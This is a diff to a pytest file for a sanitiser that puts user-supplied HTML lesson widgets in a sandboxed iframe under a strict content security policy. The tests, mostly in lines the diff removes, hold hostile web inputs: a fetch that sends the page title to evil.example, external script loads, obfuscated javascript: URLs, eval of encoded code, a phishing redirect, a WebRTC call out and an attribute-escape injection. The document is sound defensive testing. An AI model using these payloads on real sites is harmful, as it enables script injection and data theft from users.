@@ -1,21 +1,11 @@
+import html
+import re
+
 import pytest
+from support.widget_cases import ALL, GOOD, Hostile
 
 from core.lessons import RefusedWidget, SanitisedWidget, sanitise_widget, widget_file_name
 from core.lessons.widgets import CSP
-
-GOOD = """<!doctype html><html><head><title>Slope explorer</title>
-<style>body { font-family: sans-serif; }
-.bar { background: url(data:image/png;base64,AAAA); }</style>
-</head><body>
-<label for="h">h</label><input id="h" type="range" min="1" max="100" oninput="update()">
-<output id="out"></output>
-<svg width="100" height="50"><line x1="0" y1="50" x2="100" y2="0" stroke="black"/></svg>
-<script>
-function update() {
-  const h = document.getElementById("h").value / 100;
-  document.getElementById("out").textContent = ((Math.pow(1 + h, 2) - 1) / h).toFixed(3);
-}
-</script></body></html>"""
 
 
 def _ok(source: str) -> SanitisedWidget:
@@ -30,46 +20,59 @@ def _refused(source: str) -> str:
     return result.reason
 
 
-def test_a_self_contained_widget_keeps_its_script_and_gets_a_strict_csp() -> None:
-    out = _ok(GOOD).html.decode()
-    assert out.index('http-equiv="Content-Security-Policy"') < out.index("<title>")
-    assert f'content="{CSP}"' in out
-    assert "default-src 'none'" in CSP and "form-action 'none'" in CSP and "img-src data:" in CSP
-    assert "function update()" in out and 'oninput="update()"' in out
-    assert "<title>Slope explorer</title>" in out
-    assert "url(data:image/png;base64,AAAA)" in out
-    assert out.count("<script>") == 1
+_FRAME = re.compile(r'<iframe sandbox="([^"]*)" title="[^"]*" srcdoc="([^"]*)"></iframe>')
 
 
-@pytest.mark.parametrize(
-    ("source", "reason"),
-    [
-        ('<script src="https://evil.example/x.js"></script><p>hi</p>', "external script"),
-        ('<script src="//evil.example/x.js"></script>', "external script"),
-        ("<svg><script href='x.js'></script></svg>", "external script"),
-        ("<script>fetch('https://evil.example/?q=' + document.title)</script>", "fetch()"),
-        ("<script>new XMLHttpRequest()</script>", "XMLHttpRequest"),
-        ("<script>const s = new WebSocket('wss://x')</script>", "WebSocket"),
-        ("<script>import('https://x/m.js')</script>", "import()"),
-        ("<script type=module>import x from 'https://x/m.js'</script>", "import statement"),
-        ("<script>navigator.sendBeacon('/x', 'y')</script>", "sendBeacon"),
-        ("<script>eval(atob('ZmV0Y2go'))</script>", "eval()"),
-        ("<script>window.location.href = 'https://phish.example'</script>", "navigation"),
-        ("<button onclick=\"fetch('/steal')\">go</button>", "onclick handler"),
-        ('<a href="javascript:alert(1)">x</a>', "javascript: URL"),
-        ('<a href="java&#115;cript:alert(1)">x</a>', "javascript: URL"),
-        ('<a href=" JaVaScRiPt:alert(1)">x</a>', "javascript: URL"),
-        ('<div style="width: expression(alert(1))">x</div>', "CSS runs code"),
-        ("", "no content"),
-        ("x" * 200_001, "larger than"),
-    ],
-)
-def test_hostile_widgets_are_refused(source: str, reason: str) -> None:
-    assert reason in _refused(source)
+def _frame(page: str) -> tuple[str, str]:
+    """The sandbox flags and the document of the page's one frame."""
+    [(flags, srcdoc)] = _FRAME.findall(page)
+    return flags, html.unescape(srcdoc)
+
+
+def test_a_widget_runs_in_a_sandboxed_frame_under_a_strict_csp() -> None:
+    page = _ok(GOOD).html.decode()
+    policy = f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
+    for directive in ("default-src 'none'", "form-action 'none'", "base-uri 'none'",
+                      "frame-src 'none'", "img-src data:"):  # fmt: skip
+        assert directive in CSP
+    assert page.index(policy) < page.index("<title>Slope explorer</title>")
+    flags, frame = _frame(page)
+    assert flags == "allow-scripts"  # no same-origin, top navigation, pop-ups, forms
+    assert frame.index(policy) < frame.index("<body>")
+    assert "<script" not in page.replace(frame, "")  # all code is inside the frame
+    assert "function update()" in frame and 'oninput="update()"' in frame
+    assert "url(data:image/png;base64,AAAA)" in frame
+    assert frame.count("<script>") == 1
+
+
+_REFUSED = [case for case in ALL if case.refused]
+_CONTAINED = [case for case in ALL if not case.refused]
+
+
+@pytest.mark.parametrize("case", _REFUSED, ids=lambda case: case.name)
+def test_widgets_that_cannot_work_are_refused(case: Hostile) -> None:
+    assert case.refused in _refused(case.aimed_at("https://evil.example"))
+
+
+@pytest.mark.parametrize("case", _CONTAINED, ids=lambda case: case.name)
+def test_hostile_scripts_are_sent_only_inside_the_sandboxed_frame(case: Hostile) -> None:
+    """However a script spells its way out, it is contained by the frame, not by spelling
+    (tests/core/lessons/test_widget_isolation.py runs each in a browser)."""
+    page = _ok(case.aimed_at("https://evil.example")).html.decode()
+    flags, frame = _frame(page)
+    assert flags == "allow-scripts"
+    outside = page.replace(html.escape(frame, quote=True), "")
+    assert "evil.example" not in outside and "<script" not in outside
+
+
+def test_a_plain_webrtc_connection_is_refused() -> None:
+    source = "<script>new RTCPeerConnection({iceServers: [{urls: 'stun:evil.example'}]})</script>"
+    assert "WebRTC" in _refused(source)
 
 
 def test_a_script_split_across_parser_chunks_is_still_checked_whole() -> None:
-    assert "fetch()" in _refused("<script>var a = 1;\n" + " " * 5000 + "fetch('/x')</script>")
+    source = "<script>var a = 1;\n" + " " * 5000 + "new RTCPeerConnection()</script>"
+    assert "WebRTC" in _refused(source)
 
 
 def test_external_resources_and_posting_forms_are_removed() -> None:
@@ -87,7 +90,7 @@ def test_external_resources_and_posting_forms_are_removed() -> None:
         "<object data='x.swf'>fallback</object><p>text stays</p>"
     )
     result = _ok(source)
-    out = result.html.decode()
+    _, out = _frame(result.html.decode())
     for gone in (
         "cdn.example", "phish.example", "evil.example", "tracker.example", "collect.example",
         "elsewhere.example", "@import", "x/bg.png", "<iframe", "<object", "<base", "method=",
@@ -102,14 +105,16 @@ def test_external_resources_and_posting_forms_are_removed() -> None:
 
 def test_markup_cannot_escape_its_attribute_or_close_the_document_early() -> None:
     out = _ok('<p title="&quot;><script>fetch(1)</script>">x</p></body></html><p>after</p>')
-    text = out.html.decode()
-    assert "<script>" not in text  # the quote stayed inside the attribute, escaped
-    assert text.rstrip().endswith("</html>") and text.count("</html>") == 1
-    assert "after" in text
+    _, frame = _frame(out.html.decode())
+    assert "<script>" not in frame  # the quote stayed inside the attribute, escaped
+    assert frame.rstrip().endswith("</html>") and frame.count("</html>") == 1
+    assert "after" in frame
 
 
 def test_unknown_elements_keep_their_text_only() -> None:
-    out = _ok("<blink>Look</blink><custom-el onclick='x()'>here</custom-el>").html.decode()
+    _, out = _frame(
+        _ok("<blink>Look</blink><custom-el onclick='x()'>here</custom-el>").html.decode()
+    )
     assert "Look" in out and "here" in out and "<blink" not in out and "custom-el" not in out
 
 
